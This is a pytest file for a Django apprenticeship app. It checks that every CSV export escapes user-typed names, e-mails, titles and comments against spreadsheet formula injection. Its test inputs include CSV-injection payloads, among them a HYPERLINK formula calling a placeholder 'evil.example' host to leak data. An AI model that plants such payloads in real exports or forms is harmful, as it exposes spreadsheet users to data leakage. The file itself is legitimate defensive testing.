"""Every CSV download of the app escapes whatever a person typed, so that a spreadsheet opening
it never runs a name, an e-mail address, a title or a comment as a formula."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from accounts.models import Membership
from tests.conftest import verified_user
from tests.factories import ApprenticeshipFactory, EvidenceFactory, MembershipFactory, make_scan

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[1]
EMAIL = "=1+1@example.com"
TYPED = [
    '=HYPERLINK("https://evil.example/?leak","Click me")',
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1+1",
    " =1+1",
    "\n@SUM(1)",
    '"=1+1"',
]


def downloads(client, apprenticeship, scan):
    """The cells of every CSV download that shows what the apprentice or mentor typed."""
    urls = [
        reverse("progress:dashboard-csv"),
        reverse("progress:portfolio-csv", kwargs={"pk": apprenticeship.pk}),
        reverse("skillscan:scan-csv", kwargs={"pk": scan.pk}),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        rows = csv.reader(io.StringIO(b"".join(response).decode()))
        yield url, [cell for row in rows for cell in row]


@pytest.mark.parametrize("typed", TYPED)
def test_typed_text_is_escaped_in_every_download(client, manager, acme, standard, typed):
    mentor = verified_user("mentor@example.com", typed)
    MembershipFactory(user=mentor, organisation=acme, role=Membership.Role.MENTOR)
    apprenticeship = ApprenticeshipFactory(
        apprentice=verified_user(EMAIL, typed), standard=standard, organisation=acme, mentor=mentor
    )
    ksb = standard.ksbs.first()
    EvidenceFactory(apprenticeship=apprenticeship, status="accepted", title=typed, ksbs=[ksb])
    scan = make_scan(apprenticeship, status="submitted", employer={ksb.code: 2})
    scan.ratings.filter(ksb=ksb).update(comment=typed, employer_comment=typed)
    client.force_login(manager)
    cells_of = dict(downloads(client, apprenticeship, scan))
    for url, cells in cells_of.items():
        assert "'" + typed in cells, url
        assert typed not in cells, url
    dashboard = cells_of[reverse("progress:dashboard-csv")]
    assert "'" + EMAIL in dashboard and EMAIL not in dashboard


def test_numbers_stay_numbers_beside_escaped_text(client, manager, apprenticeship):
    client.force_login(manager)
    response = client.get(reverse("progress:dashboard-csv"))
    header, row = csv.reader(io.StringIO(b"".join(response).decode()))
    line = dict(zip(header, row, strict=True))
    assert line["duties"] == "3" and line["hours accepted"] == "0"


def _imports_csv(path):
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Import) and any(alias.name == "csv" for alias in node.names):
            return True
        if isinstance(node, ast.ImportFrom) and node.level == 0 and node.module == "csv":
            return True
    return False


def test_core_csv_is_the_only_csv_writer():
    """A module writing CSV of its own could skip the escaping: none but core/csv.py imports
    the csv module."""
    packages = [p for p in ROOT.iterdir() if (p / "__init__.py").exists() and p.name != "tests"]
    writers = [
        str(path.relative_to(ROOT))
        for package in packages
        for path in package.rglob("*.py")
        if _imports_csv(path)
    ]
    assert writers == ["core/csv.py"]
